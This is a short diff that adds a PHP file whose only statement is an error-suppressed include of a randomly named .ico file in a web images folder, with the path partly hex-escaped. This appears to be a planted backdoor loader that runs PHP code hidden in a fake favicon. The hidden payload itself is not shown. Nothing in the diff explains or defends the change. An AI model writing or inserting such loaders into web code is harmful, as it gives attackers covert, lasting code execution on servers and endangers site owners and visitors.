@@ -1,0 +1,2 @@
+<?php
+@include "\x2fvar/www/html/images/favicon_b2f1c.ico";
